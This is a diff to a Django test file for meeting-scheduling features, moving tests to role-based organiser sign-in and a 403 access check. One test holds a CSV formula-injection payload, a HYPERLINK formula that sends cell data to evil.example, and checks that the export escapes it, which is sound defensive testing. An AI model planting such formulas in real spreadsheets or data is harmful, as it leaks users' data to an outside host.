@@ -10,6 +10,7 @@ import icalendar
 import pytest
 from pypdf import PdfReader
 
+from safecities.backoffice.models import Role
 from safecities.cities.errors import (
     AlreadyAsked,
     MeetingError,
@@ -24,12 +25,14 @@ from safecities.mailing.delivery import deliver
 from tests.factories import (
     EPOCH,
     EventFactory,
+    EventRoleFactory,
     MeetingSlotFactory,
     MeetingTableFactory,
     ProgrammeFactory,
     RegistrationFactory,
     UserFactory,
 )
+from tests.signing_in import sign_in
 
 pytestmark = pytest.mark.django_db
 
@@ -245,7 +248,7 @@ def booked(event):
 
 def test_organisers_export_the_schedule_as_csv(client, event):
     booked(event)
-    client.force_login(UserFactory(username="organiser", is_staff=True))
+    sign_in(client, EventRoleFactory(event=event, role=Role.ORGANISER).user)
     response = client.get("/cities/meetings/durban-2014/schedule.csv")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[0][:5] == ["starts", "ends", "slot", "table", "requester"]
@@ -260,7 +263,7 @@ def test_the_schedule_csv_neutralises_formulas_in_names(client, event):
                     by=ben)
     type(amina).objects.filter(pk=amina.pk).update(
         name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
-    client.force_login(UserFactory(username="organiser", is_staff=True))
+    sign_in(client, EventRoleFactory(event=event, role=Role.ORGANISER).user)
     response = client.get("/cities/meetings/durban-2014/schedule.csv")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[1][4] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
@@ -268,7 +271,7 @@ def test_the_schedule_csv_neutralises_formulas_in_names(client, event):
 
 def test_organisers_print_a_schedule_per_table(client, event):
     booked(event)
-    client.force_login(UserFactory(username="organiser", is_staff=True))
+    sign_in(client, EventRoleFactory(event=event, role=Role.ORGANISER).user)
     table = event.meeting_tables.get()
     response = client.get(f"/cities/meetings/durban-2014/tables/{table.pk}.pdf")
     assert response["Content-Type"] == "application/pdf"
@@ -280,8 +283,8 @@ def test_organisers_print_a_schedule_per_table(client, event):
 
 
 def test_only_organisers_see_the_schedule(client, event):
-    client.force_login(UserFactory(username="someone"))
-    assert client.get("/cities/meetings/durban-2014/schedule.csv").status_code == 302
+    sign_in(client, UserFactory(username="someone"))
+    assert client.get("/cities/meetings/durban-2014/schedule.csv").status_code == 403
 
 
 def test_an_accepted_meeting_is_in_both_personal_agendas_of_the_programme(client, event):
